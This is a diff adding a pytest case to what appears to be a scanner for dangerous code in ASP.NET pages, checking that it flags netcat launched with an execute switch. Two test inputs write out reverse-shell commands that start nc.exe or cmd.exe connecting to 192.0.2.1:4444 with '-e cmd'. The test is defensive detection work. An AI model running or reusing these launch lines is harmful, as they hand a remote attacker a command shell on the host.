@@ -568,3 +568,20 @@ def test_an_upload_saved_beside_the_page_through_a_joined_path() -> None:
         'Up.SaveAs("./" + n);', 'Up.SaveAs(Server.MapPath("~/uploads/") + System.Guid.NewGuid() + ".jpg");'
     )
     assert _sinks(kept, ".aspx") == set()
+
+
+@pytest.mark.parametrize(
+    ("code", "found"),
+    [
+        ('System.Diagnostics.Process.Start("nc.exe", "192.0.2.1 4444 -e cmd.exe");', True),
+        ('var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";\n'
+         '  p.StartInfo.Arguments = "/C " + tool + " 192.0.2.1 4444 -e cmd"; p.Start();', True),
+        ('System.Diagnostics.Process.Start("netstat.exe", "-e"); Label1.Text = "use -e cmd to ...";', False),
+        ('System.Diagnostics.Process.Start("tool.exe", "-e cmdlets");', False),
+    ],
+)  # fmt: skip
+def test_netcat_execute_switch_in_a_started_process(code: str, found: bool) -> None:
+    page = (
+        '<%@ Page Language="C#" %>\n<% string tool = Server.MapPath("~/App_Data/t.exe");\n  ' + code + " %>\n"
+    )
+    assert ("netcat-launcher" in _sinks(page, ".aspx")) is found
